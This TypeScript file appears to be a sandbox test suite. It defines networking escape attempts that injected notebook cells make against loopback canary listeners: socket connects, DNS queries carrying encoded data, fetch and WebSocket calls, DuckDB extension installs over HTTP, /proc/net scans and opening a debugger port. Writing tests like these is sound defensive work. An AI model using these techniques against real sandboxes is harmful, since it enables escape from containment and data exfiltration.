import { attackCell, literal, MARKER } from "./attack.ts";
import type { Attack } from "./attack.ts";

const reaches = (id: string, what: string, cell: Attack["cell"]): Attack => ({
  id,
  class: "networking",
  what,
  cell,
  naive: "reaches",
  proof: MARKER,
});

/** Source text: resolves after the socket connected or failed. */
const CONNECT = `
const connect = (options) => new Promise((resolve) => {
  const socket = require("node:net").connect(options);
  socket.on("connect", () => { socket.write("hello"); socket.end(); });
  socket.on("error", (error) => { console.log("refused: " + error); resolve(); }).on("close", resolve);
});`;

/** Attacks that look for a way out of the box to a listener on the same machine. */
export const NETWORKING: readonly Attack[] = [
  reaches("connects-by-tcp", "Connects to a listener on the loopback by IPv4, IPv6 and name.", (t) =>
    attackCell(
      t,
      `${CONNECT}
for (const host of ["127.0.0.1", "::1", "localhost"]) await attemptAsync(() => connect({ host, port: ${String(t.canary.tcpPort)} }));`,
    ),
  ),
  reaches("sends-by-udp", "Sends a datagram to a listener on the loopback.", (t) =>
    attackCell(
      t,
      `await attemptAsync(() => new Promise((resolve, reject) => {
  const socket = require("node:dgram").createSocket("udp4");
  socket.on("error", (error) => { reject(error); });
  socket.send("hello", ${String(t.canary.udpPort)}, "127.0.0.1", (error) => { if (error) reject(error); else resolve(); try { socket.close(); } catch {} });
}));`,
    ),
  ),
  reaches("connects-by-unix-socket", "Connects to a Unix socket of the host by its path.", (t) =>
    attackCell(t, `${CONNECT} await attemptAsync(() => connect({ path: ${literal(t.canary.unixPath)} }));`),
  ),
  reaches(
    "connects-by-abstract-socket",
    "Connects to a Unix socket in the abstract namespace, which has no path.",
    (t) =>
      attackCell(
        t,
        `${CONNECT} await attemptAsync(() => connect({ path: "\\0" + ${literal(t.canary.abstractName)} }));`,
      ),
  ),
  reaches("asks-a-name-server", "Carries data out in DNS questions.", (t) =>
    attackCell(
      t,
      `const { Resolver } = require("node:dns").promises;
const resolver = new Resolver({ timeout: 150, tries: 1 });
resolver.setServers(["127.0.0.1:${String(t.canary.udpPort)}"]);
await attemptAsync(() => resolver.resolve4("c2VjcmV0.example.test"));
await attemptAsync(() => require("node:dns").promises.lookup("localhost"));`,
    ),
  ),
  reaches("fetches", "Fetches a URL, opens a WebSocket and an HTTP/2 session.", (t) =>
    attackCell(
      t,
      `await attemptAsync(() => fetch("http://127.0.0.1:${String(t.canary.tcpPort)}/", { signal: AbortSignal.timeout(300) }));
await attemptAsync(() => new Promise((resolve) => { const socket = new WebSocket("ws://127.0.0.1:${String(t.canary.tcpPort)}/"); socket.onerror = socket.onclose = resolve; setTimeout(resolve, 100); }));
await attemptAsync(() => new Promise((resolve) => { const session = require("node:http2").connect("http://127.0.0.1:${String(t.canary.tcpPort)}"); session.on("error", resolve); setTimeout(() => { session.destroy(); resolve(); }, 100); }));`,
    ),
  ),
  reaches(
    "installs-an-extension",
    "Has DuckDB install an extension from a repository on the loopback, and read a URL.",
    (t) =>
      attackCell(
        t,
        `const { DuckDBInstance } = require("@duckdb/node-api");
const connection = await (await DuckDBInstance.create(":memory:", { allow_unsigned_extensions: "true" })).connect();
for (const text of [
  "set http_retries = 0",
  "install httpfs from 'http://127.0.0.1:${String(t.canary.tcpPort)}'",
  "install httpfs", "load httpfs",
  "select * from read_parquet('http://127.0.0.1:${String(t.canary.tcpPort)}/a.parquet')",
]) {
  if (text === "install httpfs" && !fs.existsSync("/rt/box")) continue;
  await attemptAsync(() => connection.run(text));
}`,
      ),
  ),
  {
    ...reaches(
      "asks-sql-for-a-url",
      "Asks the notebook's own sql to install, load and attach over the network.",
      (t) =>
        attackCell(
          t,
          `const { sql } = require("dschool");
for (const text of [
  "install httpfs from 'http://127.0.0.1:${String(t.canary.tcpPort)}'",
  "load httpfs",
  "attach 'http://127.0.0.1:${String(t.canary.tcpPort)}/a.db' as a",
  "copy (select 1) to 'http://127.0.0.1:${String(t.canary.tcpPort)}/b.csv'",
]) await attemptAsync(() => sql(Object.assign([text], { raw: [text] })));`,
        ),
    ),
  },
  {
    id: "lists-the-machines-sockets",
    class: "networking",
    what: "Finds a listener of the machine in what /proc shows of its network.",
    cell: (t) =>
      attackCell(
        t,
        `const port = ":" + (${String(t.canary.tcpPort)}).toString(16).toUpperCase().padStart(4, "0") + " ";
for (const file of ["tcp", "tcp6", "udp", "unix"]) {
  const listed = attempt(() => fs.readFileSync("/proc/net/" + file, "utf8"));
  if (listed.includes(port) || listed.includes(${literal(t.canary.abstractName)})) console.log("found a listener: " + file);
}`,
      ),
    naive: "says",
    never: /found a listener/,
    proof: MARKER,
  },
  {
    id: "opens-an-inspector",
    class: "networking",
    what: "Opens the debugger's port and listens on ports of its own, so that somebody outside can come in.",
    cell: (t) =>
      attackCell(
        t,
        `attempt(() => { const inspector = require("node:inspector"); inspector.open(0, "127.0.0.1"); console.log("url " + inspector.url()); if (inspector.url()) inspector.close(); });
await attemptAsync(() => new Promise((resolve, reject) => { const server = require("node:net").createServer(); server.on("error", reject); server.listen(0, "127.0.0.1", () => {
  require("node:net").connect(${String(t.canary.tcpPort)}, "127.0.0.1").on("error", () => {}).on("connect", function () { this.end(); }).on("close", () => server.close(resolve)); }); }));`,
      ),
    naive: "reaches",
    proof: MARKER,
  },
];
